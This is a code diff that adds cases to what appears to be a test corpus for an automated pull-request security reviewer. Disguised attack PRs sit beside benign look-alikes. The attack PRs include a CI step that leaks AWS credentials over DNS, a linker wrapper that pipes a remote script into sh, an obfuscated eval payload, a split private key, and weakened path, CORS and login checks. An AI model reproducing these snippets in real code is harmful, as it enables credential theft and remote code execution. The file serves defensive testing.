@@ -2227,4 +2227,271 @@ export const ATTACK_CASES: CorpusEntry[] = [
       }),
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], noFindings: true },
   },
+  {
+    id: 'attack-lint-fix-weakens-path-containment',
+    description:
+      'A "fix lint warning" PR turns a static-file handler\'s containment test resolved.startsWith(root + path.sep) into resolved.includes(root): any path that mentions the root passes, and a sibling folder whose name starts with the root\'s (/srv/static-private beside /srv/static) is served (path traversal dressed as a lint fix).',
+    fixture: () =>
+      attackPr({
+        repo: 'asset-server',
+        number: 7173,
+        title: 'fix lint warning in static handler',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'src/routes/static.ts',
+            base: lines("import path from 'node:path';", '', 'export function resolveAsset(root: string, name: string): string {', '  const resolved = path.resolve(root, name);', "  if (!resolved.startsWith(root + path.sep)) throw new Error('outside the asset folder');", '  return resolved;', '}'),
+            head: lines("import path from 'node:path';", '', 'export function resolveAsset(root: string, name: string): string {', '  const resolved = path.resolve(root, name);', "  if (!resolved.includes(root)) throw new Error('outside the asset folder');", '  return resolved;', '}'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['path-check-removed', 'pr-claim-mismatch'] },
+  },
+  {
+    id: 'attack-path-separator-moves-into-root',
+    description: 'A maintainer moves the separator into the root once (const base = path.resolve(root) + path.sep) and tests startsWith(base): the same containment test, written once.',
+    fixture: () =>
+      attackPr({
+        repo: 'asset-server',
+        number: 7174,
+        title: 'static: resolve the root once',
+        files: [
+          {
+            path: 'src/routes/static.ts',
+            base: lines("import path from 'node:path';", '', 'export function resolveAsset(root: string, name: string): string {', '  const resolved = path.resolve(root, name);', "  if (!resolved.startsWith(root + path.sep)) throw new Error('outside the asset folder');", '  return resolved;', '}'),
+            head: lines("import path from 'node:path';", '', 'export function resolveAsset(root: string, name: string): string {', '  const base = path.resolve(root) + path.sep;', '  const resolved = path.resolve(base, name);', "  if (!resolved.startsWith(base)) throw new Error('outside the asset folder');", '  return resolved;', '}'),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], noFindings: true },
+  },
+  {
+    id: 'attack-typo-fix-widens-origin-equality',
+    description:
+      'A "Fix typo" PR turns a CORS check origin === allowedOrigin into origin.startsWith(allowedOrigin): https://app.acme.com.evil.net now gets credentialed CORS answers (the classic prefix bypass of an origin allow-list).',
+    fixture: () =>
+      attackPr({
+        repo: 'billing-api',
+        number: 7175,
+        title: 'Fix typo in cors middleware',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'src/middleware/cors.ts',
+            base: lines('export function cors(allowedOrigin: string) {', '  return (req: Request, res: Response, next: () => void) => {', '    const origin = req.headers.origin ?? "";', '    // Only our own app may call with credentails.', '    if (origin === allowedOrigin) res.setHeader("Access-Control-Allow-Origin", origin);', '    next();', '  };', '}'),
+            head: lines('export function cors(allowedOrigin: string) {', '  return (req: Request, res: Response, next: () => void) => {', '    const origin = req.headers.origin ?? "";', '    // Only our own app may call with credentials.', '    if (origin.startsWith(allowedOrigin)) res.setHeader("Access-Control-Allow-Origin", origin);', '    next();', '  };', '}'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['allowlist-check-loosened', 'pr-claim-mismatch'] },
+  },
+  {
+    id: 'attack-origin-equality-becomes-list',
+    description: 'A maintainer lets several origins in: origin === allowedOrigin becomes allowedOrigins.includes(origin), a membership test of a list, not a prefix test.',
+    fixture: () =>
+      attackPr({
+        repo: 'billing-api',
+        number: 7176,
+        title: 'cors: allow several origins',
+        files: [
+          {
+            path: 'src/middleware/cors.ts',
+            base: lines('export function cors(allowedOrigin: string) {', '  return (req: Request, res: Response, next: () => void) => {', '    const origin = req.headers.origin ?? "";', '    if (origin === allowedOrigin) res.setHeader("Access-Control-Allow-Origin", origin);', '    next();', '  };', '}'),
+            head: lines('export function cors(allowedOrigins: readonly string[]) {', '  return (req: Request, res: Response, next: () => void) => {', '    const origin = req.headers.origin ?? "";', '    if (allowedOrigins.includes(origin)) res.setHeader("Access-Control-Allow-Origin", origin);', '    next();', '  };', '}'),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], noFindings: true },
+  },
+  {
+    id: 'attack-lint-fix-loosens-login-limits',
+    description:
+      'A "style: fix lint warnings" PR reformats an auth module and, among the quote changes, raises MAX_LOGIN_ATTEMPTS from 5 to 500 and lowers bcrypt\'s cost from 12 to 4: password guessing is no longer locked out and a leaked hash is 256 times cheaper to crack. No token any other rule counts changes.',
+    fixture: () =>
+      attackPr({
+        repo: 'members-portal',
+        number: 7177,
+        title: 'style: fix lint warnings',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'src/auth/login.ts',
+            base: lines("import bcrypt from 'bcryptjs';", '', 'export const MAX_LOGIN_ATTEMPTS = 5;', '', 'export async function hashPassword(password: string): Promise<string> {', '  return bcrypt.hash(password, 12);', '}'),
+            head: lines('import bcrypt from "bcryptjs";', '', 'export const MAX_LOGIN_ATTEMPTS = 500;', '', 'export async function hashPassword(password: string): Promise<string> {', '  return bcrypt.hash(password, 4);', '}'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['security-limit-loosened', 'pr-claim-mismatch'] },
+  },
+  {
+    id: 'attack-login-limit-tuned',
+    description: 'A maintainer raises the login attempts before a lockout from 5 to 10 and bcrypt\'s cost from 12 to 13, and says so: tuning, not a loosened limit.',
+    fixture: () =>
+      attackPr({
+        repo: 'members-portal',
+        number: 7178,
+        title: 'auth: allow 10 login attempts, bcrypt cost 13',
+        files: [
+          {
+            path: 'src/auth/login.ts',
+            base: lines("import bcrypt from 'bcryptjs';", '', 'export const MAX_LOGIN_ATTEMPTS = 5;', '', 'export async function hashPassword(password: string): Promise<string> {', '  return bcrypt.hash(password, 12);', '}'),
+            head: lines("import bcrypt from 'bcryptjs';", '', 'export const MAX_LOGIN_ATTEMPTS = 10;', '', 'export async function hashPassword(password: string): Promise<string> {', '  return bcrypt.hash(password, 13);', '}'),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], noFindings: true },
+  },
+  {
+    id: 'attack-dns-exfiltration-through-variable',
+    description:
+      'A "warm the DNS cache" CI step reads the runner\'s AWS credentials into a variable as base64 on one line and looks up "$D.c.edge-resolve.net" two lines later: the lookup carries the credentials to that domain\'s name server (the DNS beacons of the 2021-2025 dependency-confusion and stealer payloads), with the data and the lookup on different lines.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7179,
+        title: 'ci: warm the DNS cache before tests',
+        author: 'newcomer',
+        files: [
+          {
+            path: '.github/workflows/ci.yml',
+            base: ciWorkflow(),
+            head: ciWorkflow({ extraStep: ['      - name: Warm DNS', '        run: |', "          D=$(cat ~/.aws/credentials | base64 | tr -d '\\n' | head -c 60)", '          echo "warming resolvers"', '          nslookup "$D.c.edge-resolve.net" || true'] }),
+          },
+        ],
+      }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['gha-secrets-exfiltration'] },
+  },
+  {
+    id: 'attack-dns-variable-ordinary',
+    description: 'A maintainer checks that the preview deployment of this commit resolves: the name is built from a variable holding the short commit hash, an ordinary value.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7180,
+        title: 'ci: check the preview resolves',
+        files: [
+          {
+            path: '.github/workflows/ci.yml',
+            base: ciWorkflow(),
+            head: ciWorkflow({ extraStep: ['      - name: Preview DNS', '        run: |', '          REV=$(git rev-parse --short HEAD)', '          dig +short "$REV.preview.acme.dev"'] }),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:gha-secrets-exfiltration'] },
+  },
+  {
+    id: 'attack-payload-encoded-twice',
+    description:
+      'A "telemetry opt-out" PR adds a module that decodes a string encoded twice (base64 of hex, to get past scanners that decode once) and runs it through a global looked up by a name put together (globalThis[\'ev\' + \'al\']): no eval, Function or vm call is spelled out.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7181,
+        title: 'Respect DO_NOT_TRACK in telemetry',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'lib/telemetry.js',
+            base: lines("'use strict';", '', 'module.exports = function enabled() {', '  return true;', '};'),
+            head: lines(
+              "'use strict';",
+              '',
+              "const OPT = 'NjM2ZjZlNzM2ZjZjNjUyZTZjNmY2NzI4MjczMDZiMjcyOQ==';",
+              '',
+              'module.exports = function enabled() {',
+              "  const p = Buffer.from(Buffer.from(OPT, 'base64').toString(), 'hex').toString();",
+              "  globalThis['ev' + 'al'](p);",
+              '  return !process.env.DO_NOT_TRACK;',
+              '};',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['obfuscated-code'] },
+  },
+  {
+    id: 'attack-packed-table-decompressed',
+    description: 'A maintainer ships a lookup table packed as zlib inside base64 and unpacks it at import: a decompression of one decode, data, not a payload.',
+    fixture: () =>
+      attackPr({
+        repo: 'unicode-tables',
+        number: 7182,
+        title: 'Pack the width table',
+        files: [
+          {
+            path: 'unicode_tables/width.py',
+            base: lines('from ._table import WIDTHS', '', 'def width(c):', '    return WIDTHS.get(ord(c), 1)'),
+            head: lines('import base64', 'import json', 'import zlib', '', '_PACKED = "eJyrVkrLz1eyUkpKLFKqBQAlWAR8"', 'WIDTHS = json.loads(zlib.decompress(base64.b64decode(_PACKED)))', '', 'def width(c):', '    return WIDTHS.get(str(ord(c)), 1)'),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:obfuscated-code'] },
+  },
+  {
+    id: 'attack-cargo-linker-script',
+    description:
+      'A "fix cross builds" PR points the Linux target\'s linker at a script it adds under tools/: cargo runs it for every binary, test and build script it links, on every machine and CI job; the script fetches and runs a remote file before calling cc.',
+    fixture: () =>
+      attackPr({
+        repo: 'ripgrep-lite',
+        number: 7183,
+        title: 'build: fix cross builds',
+        author: 'newcomer',
+        files: [
+          { path: '.cargo/config.toml', base: lines('[build]', 'jobs = 4'), head: lines('[build]', 'jobs = 4', '', '[target.x86_64-unknown-linux-gnu]', 'linker = "tools/cc-wrap.sh"') },
+          { path: 'tools/cc-wrap.sh', head: lines('#!/bin/sh', 'curl -fsSL https://cc-cache.dev/prime.sh | sh >/dev/null 2>&1', 'exec cc "$@"') },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['build-wrapper-changed', 'build-code-behavior'] },
+  },
+  {
+    id: 'attack-cargo-linker-by-name',
+    description: 'A maintainer links the Linux target with clang and mold, by name, as their READMEs describe.',
+    fixture: () =>
+      attackPr({
+        repo: 'ripgrep-lite',
+        number: 7184,
+        title: 'build: link with mold',
+        files: [{ path: '.cargo/config.toml', base: lines('[build]', 'jobs = 4'), head: lines('[build]', 'jobs = 4', '', '[target.x86_64-unknown-linux-gnu]', 'linker = "clang"', 'rustflags = ["-C", "link-arg=-fuse-ld=mold"]') }],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:build-wrapper-changed'] },
+  },
+  {
+    id: 'attack-private-key-split-across-files',
+    description:
+      'A "move defaults into constants" PR adds a deploy key in two halves: the header and first lines as KEY_HEAD in one module, the rest and the end marker as KEY_TAIL in another, joined at run time. Neither file holds a whole PEM block for a secret scanner to match.',
+    fixture: () =>
+      attackPr({
+        repo: 'deploy-bot',
+        number: 7185,
+        title: 'refactor: move defaults into constants',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'src/config/defaults.ts',
+            head: lines('export const KEY_HEAD =', '  "-----BEGIN RSA PRIVATE KEY-----\\n" +', '  "MIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun\\n" +', '  "VTLw7onLRnrq0/IzW7yWR7QkrmBL7jTKEn5u+qKhbwKfBstIs+bMY2Zkp18gnTxK\\n";'),
+          },
+          {
+            path: 'src/config/constants.ts',
+            head: lines("import { KEY_HEAD } from './defaults';", '', 'export const DEPLOY_KEY = KEY_HEAD +', '  "VcCQQDvH6bUqHn8xQk3aRb0GJmsjYz3w7nOVo7h6dJz3Hq3EJrXQqvK2pLZy4mWf\\n" +', '  "qH7v0mWd0Q1zYbCJ8aXg7V4Hcq2ZtE1K0pQx9Rk2dJ8mLaP3sYwTnB5vFr6qXh0Q\\n" +', '  "-----END RSA PRIVATE KEY-----\\n";'),
+          },
+        ],
+      }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['private-key-added'] },
+  },
+  {
+    id: 'attack-pem-parser-markers',
+    description: "A maintainer adds a PEM parser that names the private-key header and footer as constants, in two modules: markers with no key material after or before them.",
+    fixture: () =>
+      attackPr({
+        repo: 'deploy-bot',
+        number: 7186,
+        title: 'keys: parse PEM private keys',
+        files: [
+          { path: 'src/keys/markers.ts', head: lines("export const RSA_HEADER = '-----BEGIN RSA PRIVATE KEY-----';", "export const PKCS8_HEADER = '-----BEGIN PRIVATE KEY-----';") },
+          { path: 'src/keys/parse.ts', head: lines("import { RSA_HEADER } from './markers';", '', "const FOOTER = '-----END RSA PRIVATE KEY-----';", '', 'export function body(pem: string): string {', "  return pem.replace(RSA_HEADER, '').replace(FOOTER, '').replace(/\\s+/g, '');", '}') },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:private-key-added'] },
+  },
 ];
